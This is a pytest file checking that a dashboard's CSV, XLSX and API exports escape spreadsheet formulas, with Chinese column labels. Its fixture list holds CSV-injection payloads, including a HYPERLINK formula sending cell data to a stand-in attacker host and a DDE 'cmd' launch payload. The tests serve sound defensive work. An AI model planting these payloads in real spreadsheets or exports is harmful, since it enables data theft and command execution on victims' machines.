"""Issue 22.2: text from platforms and files never reaches a spreadsheet as a formula (OWASP CSV injection)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from dashboards.exports import table_csv, table_xlsx
from dashboards.tables import Column, Table
from socialmetrics.spreadsheets import csv_cell
from tests.api.conftest import key_client
from tests.factories import OrganizationFactory, SocialAccountFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    columns = [Column("title", "标题"), Column("views", "阅读", "count")]
    rows = [{"title": text, "views": -5} for text in HOSTILE] + [{"title": "新品发布 = 好", "views": 7}]
    return Table(key="posts", title="内容", columns=columns, rows=rows)


def test_dashboard_csv_neutralises_formula_prefixes_and_keeps_numbers():
    response = table_csv(_table(), suffix="x")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    titles = [row[0] for row in rows[1:]]
    assert titles == ["'" + text for text in HOSTILE] + ["新品发布 = 好"]
    assert [row[1] for row in rows[1:]] == ["-5"] * len(HOSTILE) + ["7"]  # numbers are not text: untouched


def test_plain_signed_numbers_in_text_stay_numbers():
    assert csv_cell("-12.50") == "-12.50"
    assert csv_cell("+3e5") == "+3e5"
    assert csv_cell("-12.50+A1") == "'-12.50+A1"


def test_dashboard_xlsx_writes_text_cells_as_text():
    response = table_xlsx(_table(), suffix="x")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells] == HOSTILE  # shown as written, marked as text (quote prefix)
    assert all(cell.quotePrefix for cell in cells)
    assert sheet.cell(row=2, column=2).value == -5


@pytest.mark.django_db
def test_api_csv_neutralises_account_names():
    organization = OrganizationFactory()
    for name in HOSTILE:
        SocialAccountFactory(organization=organization, name=name)
    response = key_client(organization).get("/api/v1/accounts/", {"format": "csv"})
    assert response.status_code == 200
    names = [row["name"] for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))]
    assert sorted(names) == sorted("'" + text for text in HOSTILE)
